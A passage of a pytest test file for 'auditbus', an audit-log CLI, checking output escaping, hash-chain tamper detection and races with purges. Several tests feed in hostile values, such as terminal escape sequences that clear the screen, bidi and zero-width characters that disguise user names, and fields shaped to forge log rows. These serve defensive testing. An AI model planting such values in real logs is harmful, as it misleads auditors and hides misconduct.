    """Another writer's row may hold any event type text; `tail` must not show it as a `user=` field."""
    path = tmp_path / "type.db"
    prepare(path, [])
    with sqlite3.connect(path) as connection:
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, details) VALUES (?, ?, ?)",
            (NOW.isoformat(), "auth_success  user=root", "{}"),
        )
    connection.close()
    result = run("tail", "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    line = result.stdout.strip()
    assert '"auth_success  user=root"' in line
    assert "user=" not in re.sub(r'"(?:[^"\\]|\\.)*"', '""', line)


INVISIBLE = "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_line_separators_and_bidi_controls_are_escaped_like_control_characters(tmp_path: Path) -> None:
    """U+2028/2029 break lines in many terminals and bidi overrides reorder what the auditor reads."""
    path = tmp_path / "bidi.db"
    prepare(
        path,
        [
            DomainEvent(
                event_type=EventType.AUTH_FAILURE,
                user_identity="mallory\u202e" + "nimda",
                details={"attempted_identity": "root" + INVISIBLE, "ip_address": "192.0.2.1\u2028forged"},
            )
        ],
    )
    for command in (["query"], ["tail"], ["stats"]):
        result = run(*command, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert not set(result.stdout) & set(INVISIBLE), command
    shown = run("query", "--db", str(path), cwd=tmp_path).stdout + run("tail", "--db", str(path), cwd=tmp_path).stdout
    assert "mallory\\u202enimda" in shown
    assert "root\\u2028\\u2029\\u202a" in shown
    assert "192.0.2.1\\u2028forged" in shown
    as_json = run("query", "--json", "--db", str(path), cwd=tmp_path).stdout
    assert not set(as_json) & set(INVISIBLE)  # JSON escapes them (\\u2028), so line-splitting readers cope
    raw = jsonl(as_json)
    assert raw[0]["user_identity"] == "mallory\u202enimda"  # and decodes to the stored value


def test_a_locale_that_cannot_encode_stored_text_still_shows_every_row(tmp_path: Path) -> None:
    """Under an ASCII locale (LC_ALL=C without Python's UTF-8 mode), non-ASCII values must not stop the output.

    Human output shows what the locale cannot encode as escapes; JSON Lines and CSV are UTF-8, exact.
    """
    path = tmp_path / "accents.db"
    prepare(path, [DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity="José", details={"city": "Zürich"})])
    env = clean_env(LC_ALL="C", LANG="C", PYTHONUTF8="0")
    env.pop("PYTHONIOENCODING", None)

    def run(command: list[str]) -> bytes:
        result = subprocess.run(
            [sys.executable, "-m", "auditbus", *command, "--db", str(path)],
            check=False,
            cwd=tmp_path,
            env=env,
            capture_output=True,
            timeout=120,
        )
        assert result.returncode == 0, result.stderr
        return result.stdout

    for command in (["query"], ["tail"], ["stats"]):
        out = run(command)
        assert out.isascii()
        if command != ["stats"]:
            assert b"Jos\\xe9" in out
    for command in (["query", "--json"], ["export"], ["export", "--format", "csv"], ["query", "--csv"]):
        text = run(command).decode("utf-8")
        if "--json" in command or command == ["export"]:
            assert jsonl(text)[0]["user_identity"] == "José"
        else:
            assert next(csv.DictReader(io.StringIO(text)))["user_identity"] == "José"


ZERO_WIDTH = "\u00ad\u200b\u200c\u200d\u2060\ufeff"


def test_invisible_characters_are_escaped_so_a_name_cannot_pass_for_another(tmp_path: Path) -> None:
    """`alice` + a zero-width space is another user that looks like alice on screen: it is shown escaped."""
    path = tmp_path / "invisible.db"
    prepare(
        path, [DomainEvent(event_type=EventType.AUTH_SUCCESS, user_identity="alice\u200b", details={"k": ZERO_WIDTH})]
    )
    for command in (["query"], ["tail"]):
        result = run(*command, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert not set(result.stdout) & set(ZERO_WIDTH), command
        assert "alice\\u200b" in result.stdout
    assert jsonl(run("query", "--json", "--db", str(path), cwd=tmp_path).stdout)[0]["user_identity"] == "alice\u200b"


#: Characters that draw nothing (or a blank) outside the ones above: every other Unicode format
#: character (tags, interlinear annotations, the Mongolian vowel separator, ...), the combining
#: grapheme joiner, variation selectors and the Hangul and Braille blanks.
MORE_INVISIBLE = (
    "\u034f\u115f\u1160\u17b4\u180b\u180e\u206a\u206f\u2800\u3164\ufe00\ufe0f\uffa0\ufff9"
    "\U0001d173\U000e0001\U000e0061\U000e007f\U000e0100"
)


@pytest.mark.parametrize("char", list(MORE_INVISIBLE), ids=lambda char: f"U+{ord(char):04X}")
def test_every_invisible_character_is_escaped_and_json_gives_it_back(tmp_path: Path, char: str) -> None:
    path = tmp_path / "invisible.db"
    prepare(path, [DomainEvent(event_type=EventType.AUTH_SUCCESS, user_identity="alice" + char, details={"k": char})])
    shown = f"\\U{ord(char):08x}" if ord(char) > 0xFFFF else f"\\u{ord(char):04x}"
    for command in (["query"], ["tail"]):
        result = run(*command, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert char not in result.stdout, command
        assert "alice" + shown in result.stdout, command
    text = run("query", "--json", "--db", str(path), cwd=tmp_path).stdout
    assert char not in text
    row = jsonl(text)[0]
    assert (row["user_identity"], row["details"]) == ("alice" + char, {"k": char})


def _drawn_width(text: str) -> int:
    """The columns a terminal draws `text` in: none for a combining mark, two for a wide character."""
    return sum(
        0 if unicodedata.combining(char) else 2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text
    )


def _on_a_terminal(args: Sequence[str], columns: int) -> str:
    """`auditbus ARGS` with its output on a terminal `columns` wide: what it printed there."""
    master, replica = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "auditbus", *args],
        stdin=subprocess.DEVNULL,
        stdout=replica,
        stderr=subprocess.DEVNULL,
        env=clean_env(COLUMNS=str(columns), LINES="24"),
    )
    os.close(replica)
    shown = b""
    try:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO once the process closed its side
                break
            if not chunk:
                break
            shown += chunk
        assert process.wait(timeout=60) == 0
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    return shown.decode().replace("\r\n", "\n")


def test_csv_on_a_terminal_shows_control_characters_escaped_and_stays_exact_when_redirected(tmp_path: Path) -> None:
    # CSV is written as stored, for programs; printed on the auditor's terminal, a user name holding
    # escape sequences set its title and cleared its screen, and a bidi control reordered the line.
    path = tmp_path / "csv.db"
    hostile = "\x1b]0;pwned\x07\x1b[2Jalice\u202eevil"
    prepare(path, [DomainEvent(event_type=EventType.AUTH_SUCCESS, user_identity=hostile)])
    for command in (["query", "--csv"], ["export", "--format", "csv"]):
        shown = _on_a_terminal([*command, "--type", "auth_success", "--db", str(path)], columns=200)
        assert "\x1b" not in shown, command
        assert "\u202e" not in shown, command
        assert "\\x1b]0;pwned\\x07\\x1b[2Jalice\\u202eevil" in shown, command
        piped = run_bytes(*command, "--type", "auth_success", "--db", str(path), cwd=tmp_path).stdout.decode()
        (row,) = csv.DictReader(io.StringIO(piped, newline=""))
        assert row["user_identity"] == hostile


#: Names that take more, or fewer, columns on screen than characters: combining accents, full-width letters.
_NARROW_AND_WIDE = ("mallory" + "\u0301" * 40, "\uff4d\uff41\uff4c\uff4c\uff4f\uff52\uff59", "bob")


def test_table_columns_line_up_whatever_width_the_characters_draw_in(tmp_path: Path) -> None:
    # Padded by characters, not by columns on screen, a row of accents pulled the later columns
    # under the earlier headers and a row of wide letters pushed them right: a value could
    # stand under a header it does not belong to.
    path = tmp_path / "wide.db"
    prepare(
        path,
        [
            DomainEvent(
                event_type=EventType.AUTH_FAILURE, user_identity=name, actor_name=f"actor-{i}", details={"i": i}
            )
            for i, name in enumerate(_NARROW_AND_WIDE)
        ],
    )
    result = run("query", "--type", "auth_failure", "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    header, *rows = result.stdout.splitlines()
    actor_column = header.index("ACTOR")
    assert len(rows) == 3
    for row in rows:
        before = row[: row.index("actor-")]
        assert _drawn_width(before) == actor_column, row


def test_on_a_terminal_no_line_of_the_table_or_tail_is_wider_than_the_terminal(tmp_path: Path) -> None:
    # A line wider than the terminal wraps, and the part wrapped onto the next line reads as a row of
    # its own: a value shaped like a row (spaces, an id, a time, a type) forged one on the screen.
    path = tmp_path / "wrap.db"
    forged = " " * 60 + "   99  2026-05-01 09:12:05.715  auth_success        user=admin  outcome=success"
    prepare(
        path,
        [
            DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity="mallory", details={"note": "\uff58" * 90}),
            DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity="mallory", details={"note": forged}),
            *(
                DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity=name, details={"n": "x" * 100})
                for name in _NARROW_AND_WIDE
            ),
        ],
    )
    for command in ("query", "tail"):
        shown = _on_a_terminal([command, "--type", "auth_failure", "--db", str(path)], columns=80)
        lines = shown.splitlines()
        assert len(lines) == (6 if command == "query" else 5), shown
        assert all(_drawn_width(line) <= 80 for line in lines), shown
        assert "99  2026" not in shown
        assert sum(line.endswith("\u2026") for line in lines) >= 5, shown
    # Narrower than the columns before DETAILS: the line itself is cut, not left to wrap.
    narrow = _on_a_terminal(["query", "--type", "auth_failure", "--db", str(path)], columns=40)
    assert all(_drawn_width(line) <= 40 for line in narrow.splitlines()), narrow
    # Piped, every line is printed in full.
    piped = run("tail", "--type", "auth_failure", "--db", str(path), cwd=tmp_path).stdout
    assert "user=admin  outcome=success" in piped
    assert "\uff58" * 90 in piped


# --------------------------------------------------------------------------- choosing the database


@pytest.mark.parametrize("name", ["file:x.db", "file:y.db?mode=ro", "a#b%41?.db"])
def test_a_database_path_that_reads_as_an_sqlite_uri_is_that_file(tmp_path: Path, name: str) -> None:
    # --db and AUDITBUS_DB name a file, as the legacy's sqlite3.connect(path) did.
    demo = run("demo", "--db", name, cwd=tmp_path)
    assert demo.returncode == 0, demo.stderr
    # Before, "file:x.db" made x.db: the command wrote one file and read another.
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]
    written = AuditService(tmp_path / name, read_only=True)
    rows = written.count()
    written.close()
    assert rows > 0
    for env, args in ((clean_env(), ("--db", name)), (clean_env(AUDITBUS_DB=name), ())):
        for read_only in ((), ("--read-only",)):
            result = run(*read_only, "query", "--json", "--limit", "1000", *args, cwd=tmp_path, env=env)
            assert result.returncode == 0, result.stderr
            assert len(jsonl(result.stdout)) >= rows
    # A reader leaves SQLite's -wal and -shm files beside the trail; nothing else was made.
    assert {p.name for p in tmp_path.iterdir()} - {name + "-wal", name + "-shm"} == {name}


def _cli_access_rows(path: Path) -> list[tuple[str, str | None]]:
    with AuditService(path, read_only=True) as reader:
        rows = reader.query(event_type=["audit_started", "audit_stopped"], order="asc", limit=None)
    return [(str(r.event_type), r.user_identity) for r in rows if r.source and r.source["app"] == "auditbus-cli"]


def test_the_commands_own_rows_name_the_operating_system_user_who_ran_it(trail: Path) -> None:
    # The account of the process's user id: $USER and $LOGNAME are the caller's to set.
    result = run(
        "export",
        "--format",
        "jsonl",
        "--db",
        str(trail),
        cwd=trail.parent,
        env=clean_env(USER="mallory", LOGNAME="mallory"),
    )
    assert result.returncode == 0, result.stderr
    # Before, both rows had no user: an auditor could not tell who exported the trail.
    assert _cli_access_rows(trail) == [
        ("audit_started", pwd.getpwuid(os.getuid()).pw_name),
        ("audit_stopped", pwd.getpwuid(os.getuid()).pw_name),
    ]


def test_the_commands_own_rows_name_a_user_id_that_has_no_account_by_its_number(trail: Path) -> None:
    uid = 54321
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("needs root and setpriv to run as a user id without an account")
    with pytest.raises(KeyError):
        pwd.getpwuid(uid)
    # A folder that user can reach and write (pytest's own is private to this user).
    folder = Path(tempfile.mkdtemp(prefix="auditbus-uid-"))
    try:
        folder.chmod(0o777)
        copy = folder / "trail.db"
        shutil.copyfile(trail, copy)
        copy.chmod(0o666)
        command = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]
        result = subprocess.run(
            [*command, sys.executable, "-m", "auditbus", "query", "--db", str(copy)],
            cwd=folder,
            # Where the package is installed (root's own Python, say) may be closed to that user.
            env=clean_env(HOME=str(folder), PYTHONPATH=str(package_for_other_users())),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert result.returncode == 0, result.stderr
        assert _cli_access_rows(copy) == [("audit_started", f"uid:{uid}"), ("audit_stopped", f"uid:{uid}")]
    finally:
        shutil.rmtree(folder)


def test_an_identity_given_to_the_command_names_its_own_rows(trail: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with identity("auditor-7"):
        assert cli.main(["stats", "--db", str(trail)]) == 0
    capsys.readouterr()
    assert _cli_access_rows(trail) == [("audit_started", "auditor-7"), ("audit_stopped", "auditor-7")]


def test_database_from_flag_env_or_current_directory(trail: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    by_env = run("query", "--json", cwd=elsewhere, env=clean_env(AUDITBUS_DB=str(trail)))
    assert len(jsonl(by_env.stdout)) == 5
    before_command = run("--db", str(trail), "query", "--json", cwd=elsewhere)
    assert len(jsonl(before_command.stdout)) == 5
    flag_wins = run("query", "--json", "--db", str(trail), cwd=elsewhere, env=clean_env(AUDITBUS_DB="/nonexistent"))
    assert len(jsonl(flag_wins.stdout)) == 5
    after_wins = run("--db", "/nonexistent", "query", "--json", "--db", str(trail), cwd=elsewhere)
    assert len(jsonl(after_wins.stdout)) == 5
    (elsewhere / "audit.db").write_bytes(trail.read_bytes())
    default = run("query", "--json", cwd=elsewhere)
    assert len(jsonl(default.stdout)) == 5


def test_console_script_is_installed_and_runs(trail: Path) -> None:
    assert SCRIPT.exists(), f"console script missing at {SCRIPT}; install the package"
    result = subprocess.run(
        [str(SCRIPT), "query", "--json", "--db", str(trail)],
        check=False,
        capture_output=True,
        text=True,
        env=clean_env(),
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert len(jsonl(result.stdout)) == 5
    missing = subprocess.run(
        [str(SCRIPT), "verify", "--db", str(trail.parent / "missing.db")],
        check=False,
        capture_output=True,
        text=True,
        env=clean_env(),
        timeout=60,
    )
    assert_one_error_line(missing, 1, "no audit database")


# --------------------------------------------------------------------------- tail


def test_tail_shows_the_last_rows_oldest_first(trail: Path) -> None:
    result = run("tail", "-n", "2", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 2
    assert "plan_cancelled" in lines[0]
    assert "plan=p-2" in lines[0]
    assert "auth_failure" in lines[1]
    as_json = jsonl(run("tail", "--json", "-n", "3", "--user", "alice", "--db", str(trail), cwd=trail.parent).stdout)
    assert [row["event_type"] for row in as_json] == ["session_created", "plan_applied", "config_changed"]


def _reader(stream: Any) -> queue.Queue[str]:
    lines: queue.Queue[str] = queue.Queue()

    def pump() -> None:
        for line in stream:
            lines.put(line)

    threading.Thread(target=pump, daemon=True).start()
    return lines


def _next_line(lines: queue.Queue[str], deadline: float) -> str:
    return lines.get(timeout=max(deadline - time.monotonic(), 0.01))


@contextmanager
def _following(trail: Path, *options: str) -> Iterator[tuple[subprocess.Popen[str], queue.Queue[str]]]:
    """`auditbus tail -n 1 --follow [options]` on `trail` and its output lines; killed and closed on the way out."""
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "auditbus", "tail", "-n", "1", "--follow", "--interval", "0.05"),
            *options,
            *("--db", str(trail)),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=clean_env(),
    )
    try:
        assert process.stdout is not None
        yield process, _reader(process.stdout)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        for stream in (process.stdout, process.stderr):
            if stream is not None:
                stream.close()


def test_tail_follow_prints_new_rows_and_exits_zero_on_ctrl_c(trail: Path) -> None:
    with _following(trail) as (process, lines):
        deadline = time.monotonic() + 60
        assert "auth_failure" in _next_line(lines, deadline)
        with identity("carol"):
            prepare(trail, [DomainEvent(event_type=EventType.ENTITY_DELETED, details={"entity_name": "old-actor"})])
        new = _next_line(lines, deadline)
        assert "entity_deleted" in new
        assert "user=carol" in new
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 0
        assert process.stderr is not None
        assert "Traceback" not in process.stderr.read()


def test_tail_follow_ends_when_its_reader_goes_away_while_no_row_comes(trail: Path) -> None:
    # `auditbus tail -f | grep -m1 X` (or `| head -1`): the reader is gone, yet with no new row to
    # write, nothing told the command; it polled the trail, holding it open, until killed.
    read, write = os.pipe()
    process = subprocess.Popen(
        [sys.executable, "-m", "auditbus", "tail", "-n", "1", "-f", "--interval", "0.05", "--db", str(trail)],
        stdout=write,
        stderr=subprocess.PIPE,
        env=clean_env(),
    )
    os.close(write)
    try:
        with os.fdopen(read, "rb") as reader:
            assert b"auth_failure" in reader.readline()
        wait_until(lambda: process.poll() is not None, "tail --follow to end once its reader went away")
        assert process.returncode == 0
        assert process.stderr is not None
        assert process.stderr.read() == b""
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        if process.stderr is not None:
            process.stderr.close()


def test_tail_follow_of_lifecycle_rows_shows_only_rows_that_come_later(trail: Path) -> None:
    """`-n 0` followed on from the newest domain row: the lifecycle rows after it, there before the
    command began (its own start row among them), were shown as new ones."""
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "auditbus",
            "tail",
            "-n",
            "0",
            "--follow",
            "--json",
            "--interval",
            "0.05",
            "--type",
            "audit_started,audit_stopped",
            "--db",
            str(trail),
        ],
        stdout=subprocess.PIPE,
        text=True,
        env=clean_env(),
    )
    try:
        assert process.stdout is not None
        lines = _reader(process.stdout)
        wait_until(lambda: "audit_started" in _lifecycle_rows(trail, process.pid), "the command's start row", 60)
        with AuditService(str(trail), read_only=True) as service:
            began = max(entry.id for entry in service.query(event_type="audit_started", limit=None))
        # New rows until one is shown: the command may read where to follow on from after the first.
        deadline = time.monotonic() + 60
        shown: str | None = None
        while shown is None:
            AuditService(str(trail)).close()
            with suppress(queue.Empty):
                shown = _next_line(lines, min(deadline, time.monotonic() + 0.2))
            assert time.monotonic() < deadline, "no row shown"
        first = json.loads(shown)
        assert first["id"] > began, first
    finally:
        process.kill()
        process.wait()
        if process.stdout is not None:
            process.stdout.close()


def _stopped(pid: int) -> bool:
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "T"


def test_tail_follow_says_when_a_purge_deleted_rows_it_had_not_shown(trail: Path) -> None:
    """Before, the rows were skipped silently: the `audit_purged` row shows only when --type names it."""
    with _following(trail) as (process, lines):
        deadline = time.monotonic() + 60
        assert "auth_failure" in _next_line(lines, deadline)
        # Stopped, the command cannot read the rows below before the purge deletes them.
        process.send_signal(signal.SIGSTOP)
        wait_until(lambda: _stopped(process.pid), "tail --follow to stop")
        with identity("bob"):
            prepare(trail, [DomainEvent(event_type=EventType.ENTITY_DELETED, details={"entity_name": "gone"})])
        with identity("dana"), AuditService(str(trail)) as service:
            purged = service.purge(datetime.now(UTC))
            through = service.query(event_type="audit_purged", limit=1)[0].details["through_id"]
        assert purged > 0
        assert process.stderr is not None
        errors = _reader(process.stderr)
        process.send_signal(signal.SIGCONT)
        notice = _next_line(errors, deadline)
        assert notice.startswith("auditbus: a purge by dana (row "), notice
        assert f"deleted the rows up to id {through} before they were shown" in notice
        # Said once: the next poll that shows a row says nothing more of it.
        with identity("carol"):
            prepare(trail, [DomainEvent(event_type=EventType.ENTITY_DELETED, details={"entity_name": "later"})])
        assert "user=carol" in _next_line(lines, deadline)
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 0
    assert errors.empty()


def test_tail_follow_says_nothing_of_a_purge_of_rows_it_had_read_past(trail: Path) -> None:
    """A retention purge under `--type` whose newest match is old: the rows it deleted after that
    match were read, none matched. Before, each such purge was said as rows missing."""
    now = datetime.now(UTC)
    with identity("bob"):
        prepare(
            trail,
            [
                DomainEvent(event_type=EventType.CONFIG_CHANGED, timestamp=now - timedelta(days=1)),
                DomainEvent(event_type=EventType.CONFIG_CHANGED, timestamp=now + timedelta(days=1)),
            ],
        )
    with _following(trail, "--type", "auth_failure") as (process, lines):
        assert process.stderr is not None
        errors = _reader(process.stderr)
        deadline = time.monotonic() + 60
        assert "auth_failure" in _next_line(lines, deadline)
        # Up to the row stamped ahead: the first config_changed row (after the auth_failure shown) goes.
        with identity("dana"), AuditService(str(trail)) as service:
            assert service.purge(now) > 0
        # Two polls each showing a row: the first of them, at the latest, has read the purge.
        for name in ("carol", "erin"):
            with identity(name):
                prepare(trail, [DomainEvent(event_type=EventType.AUTH_FAILURE, details={"reason": "bad password"})])
            assert f"user={name}" in _next_line(lines, deadline)
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=60) == 0
        assert errors.empty(), errors.get()


@pytest.mark.parametrize("change", ["removed", "replaced"])
def test_tail_follow_stops_when_the_trail_is_removed_or_replaced(trail: Path, tmp_path: Path, change: str) -> None:
    """Polling a file no longer at the path would show nothing new, or another trail's rows, silently."""
    other = tmp_path / "other.db"
    prepare(other, sample_events())
    with _following(trail) as (process, lines):
        assert "auth_failure" in _next_line(lines, time.monotonic() + 60)
        for suffix in ("-wal", "-shm"):
            Path(f"{trail}{suffix}").unlink(missing_ok=True)
        if change == "removed":
            trail.unlink()
        else:
            trail.rename(tmp_path / "kept.db")
            shutil.copyfile(other, trail)
        assert process.wait(timeout=20) == 1
        assert process.stderr is not None
        err = process.stderr.read()
    assert "Traceback" not in err
    assert f"auditbus: error: {trail} was {change} while it was followed" in err.splitlines()[-1]


# Another process appends a matching row when the command first counts rows, and with
# "purge" purges the oldest one: a writer and a purge racing the command, made to land there.
_RACED = """
import subprocess, sys
from auditbus import AuditService, cli

RACE = '''
import sys
from datetime import datetime, timedelta, timezone
from auditbus import AuditService, DomainEvent
now = datetime.now(timezone.utc)
with AuditService(sys.argv[1]) as service:
    service.record_event(DomainEvent(event_type="entity_deleted", timestamp=now + timedelta(days=3),
                                     details={"entity_name": "appended"}))
    service.flush()
    if sys.argv[2] == "purge":
        service.purge(now + timedelta(hours=1))
'''

class Raced(AuditService):
    raced = False

    def count(self, **filters):
        # "append" lands just before the first count, "purge" (append and purge) just after it.
        if sys.argv[2] == "append":
            self.race()
        counted = super().count(**filters)
        self.race()
        return counted

    @staticmethod
    def race():
        if not Raced.raced:
            Raced.raced = True
            subprocess.run([sys.executable, "-c", RACE, sys.argv[1], sys.argv[2]], check=True)

cli.AuditService = Raced
sys.exit(cli.main(sys.argv[3:]))
"""


@pytest.mark.parametrize("command", [["export"], ["query", "--limit", "0", "--json"]], ids=lambda c: c[0])
def test_a_row_appended_while_rows_are_purged_does_not_hide_the_purge(tmp_path: Path, command: list[str]) -> None:
    """Before, the rows were counted in one read and their end taken in another: a row appended
    between the two was written too and made up for the purged one, and the command passed."""
    path = tmp_path / "audit.db"
    now = datetime.now(UTC)
    # The purge (before now + 1 h) deletes the first row and the service's start row before it.
    prepare(
        path,
        [
            DomainEvent(event_type=EventType.ENTITY_DELETED, timestamp=now + offset, details={"entity_name": name})
            for name, offset in (("e1", -timedelta(days=1)), ("e2", timedelta(days=1)), ("e3", timedelta(days=2)))
        ],
    )
    result = subprocess.run(
        [sys.executable, "-c", _RACED, str(path), "purge", *command, "--db", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        env=clean_env(),
        check=False,
    )
    assert_one_error_line(result, 1, "1 of the 3 rows that matched when the command began were deleted (purged)")
    assert "appended" not in result.stdout
    with AuditService(str(path), read_only=True) as service:
        assert [e.details["entity_name"] for e in service.query(order="asc")] == ["e2", "e3", "appended"]


def test_a_row_appended_after_a_newest_first_page_is_not_a_next_page(tmp_path: Path) -> None:
    """Before, the notice counted every matching row in a read after the page: the row appended
    meanwhile made it say "the newest 3 of 4 ... --after-id N the next page", and that page is empty."""
    path = tmp_path / "audit.db"
    prepare(path, [DomainEvent(event_type=EventType.ENTITY_DELETED, details={"n": n}) for n in range(3)])
    result = subprocess.run(
        [sys.executable, "-c", _RACED, str(path), "append", "query", "--limit", "3", "--json", "--db", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        env=clean_env(),
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert [row["details"]["n"] for row in jsonl(result.stdout)] == [2, 1, 0]
    assert result.stderr == ""
    with AuditService(str(path), read_only=True) as service:
        assert service.count() == 4  # the race really happened


# --------------------------------------------------------------------------- verify


def test_verify_passes_on_an_intact_trail(trail: Path) -> None:
    result = run("verify", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    assert re.fullmatch(r"chain intact: \d+ rows checked\nhead: --head \d+:[0-9a-f]{64}\n", result.stdout)
    report = json.loads(run("verify", "--json", "--db", str(trail), cwd=trail.parent).stdout)
    assert report["ok"] is True
    assert report["checked"] >= 5  # the five events and the service's own start/stop rows
    assert report["first_bad_id"] is None


def test_verify_counts_one_row_in_the_singular(tmp_path: Path) -> None:
    path = tmp_path / "audit.db"
    with AuditService(path) as svc:
        svc.flush()
        svc.purge(datetime(9999, 1, 1, tzinfo=UTC))  # every row: the purge row is the one left
        assert svc.verify().checked == 1
        assert cli.describe_verify(svc.verify()) == "chain intact: 1 row checked"


def test_verify_names_the_first_edited_row(trail: Path) -> None:
    with AuditService(str(trail)) as service:
        target = service.query(plan_id="p-1")[0].id
    with sqlite3.connect(trail) as connection:
        connection.execute("UPDATE audit_log SET details = '{\"files_changed\":0}' WHERE id = ?", (target,))
    result = run("verify", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 3
    assert f"chain BROKEN at row {target}:" in result.stdout
    report = json.loads(run("verify", "--json", "--db", str(trail), cwd=trail.parent).stdout)
    assert report["ok"] is False
    assert report["first_bad_id"] == target
    assert report["reason"]


def test_verify_of_a_table_with_a_dropped_column_is_a_broken_chain_read_only(trail: Path) -> None:
    with sqlite3.connect(trail) as connection:
        connection.execute("ALTER TABLE audit_log DROP COLUMN outcome")
    # A command that records its own access cannot write there: one line naming the way to check it.
    assert_one_error_line(run("verify", "--db", str(trail), cwd=trail.parent), 1, "'outcome'", "--read-only verify")
    result = run("--read-only", "verify", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 3, result
    assert "chain BROKEN at row 1: audit_log has no column 'outcome'" in result.stdout


def test_verify_reports_unchained_legacy_rows(aged_trail: Path) -> None:
    result = run("verify", "--db", str(aged_trail), cwd=aged_trail.parent)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "2 legacy rows written before the hash chain" in result.stdout


def test_verify_read_only_does_not_call_rows_appended_after_the_chain_legacy_rows(aged_trail: Path) -> None:
    """Rows inserted without a hash after the newest chained row are not "written before the hash chain"."""
    with sqlite3.connect(aged_trail) as connection:
        for user in ("mallory", "eve", "trudy"):
            connection.execute(
                "INSERT INTO audit_log (timestamp, event_type, user_identity, details) VALUES (?, ?, ?, '{}')",
                (NOW.isoformat(), "auth_success", user),
            )
    connection.close()
    result = run("--read-only", "verify", "--db", str(aged_trail), cwd=aged_trail.parent)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "2 legacy rows written before the hash chain" in result.stdout
    assert "3 rows appended without a hash after the newest chained row" in result.stdout
    report = json.loads(run("--read-only", "verify", "--json", "--db", str(aged_trail), cwd=aged_trail.parent).stdout)
    # The JSON report keeps them apart from the legacy rows too.
    assert (report["unchained"], report["appended"]) == (5, 3)


def test_verify_names_the_removed_newest_rows(trail: Path) -> None:
    with sqlite3.connect(trail) as connection:
        rows = [row[0] for row in connection.execute("SELECT id FROM audit_log ORDER BY id")]
        first, last = rows[3], rows[-1]
        connection.execute("DELETE FROM audit_log WHERE id >= ?", (first,))
    connection.close()
    result = run("verify", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 3, result.stdout + result.stderr
    assert f"chain BROKEN at row {first}:" in result.stdout
    assert f"newest rows (ids {first}..{last}) were removed" in result.stdout
    report = json.loads(run("verify", "--json", "--db", str(trail), cwd=trail.parent).stdout)
    assert report["ok"] is False
    assert report["first_bad_id"] == first


def test_verify_counts_rows_folded_into_the_chain(trail: Path) -> None:
    with sqlite3.connect(trail) as connection:
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, details)"
            " VALUES ('2026-01-01T00:00:00+00:00', 'auth_success', '{}')"
        )
    connection.close()
    result = run("verify", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "1 row written without a hash" in result.stdout
    report = json.loads(run("verify", "--json", "--db", str(trail), cwd=trail.parent).stdout)
    assert report["ok"] is True
    assert report["folded"] == 1
    assert report["unchained"] == 0


# --------------------------------------------------------------------------- export


def test_export_jsonl_streams_every_row_oldest_first(trail: Path) -> None:
    result = run("export", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    rows = jsonl(result.stdout)
    assert rows[0]["event_type"] == "session_created"
    assert len(rows) == 5
    assert [row["id"] for row in rows] == sorted(row["id"] for row in rows)
    assert "\r" not in result.stderr  # no progress line when stderr is not a terminal


_APPEND_UNTIL_STOPPED = """
import sys
from pathlib import Path
from auditbus import AuditService, DomainEvent, EventType
with AuditService(sys.argv[1], durability="normal") as service:
    service.record_event(DomainEvent(event_type=EventType.AUTH_FAILURE, details={"n": -1}))
    service.flush()
    print("writing", flush=True)
    number = 0
    while not Path(sys.argv[2]).exists():
        service.record_event(DomainEvent(event_type=EventType.AUTH_FAILURE, details={"n": number}))
        number += 1
        if number % 100 == 0:
            service.flush()
"""


def _many_rows(path: Path, rows: int) -> None:
    """A trail of `rows` `auth_success` rows: long enough for a command on it to be caught mid-way."""
    with AuditService(str(path), durability="normal") as service:
        for number in range(rows):
            service.record_event(DomainEvent(event_type=EventType.AUTH_SUCCESS, details={"n": number}))


@contextmanager
def _appending(path: Path) -> Iterator[None]:
    """Another process appends to `path` from before the block starts until it ends."""
    stop = path.with_name(path.name + ".stop")
    appender = subprocess.Popen(
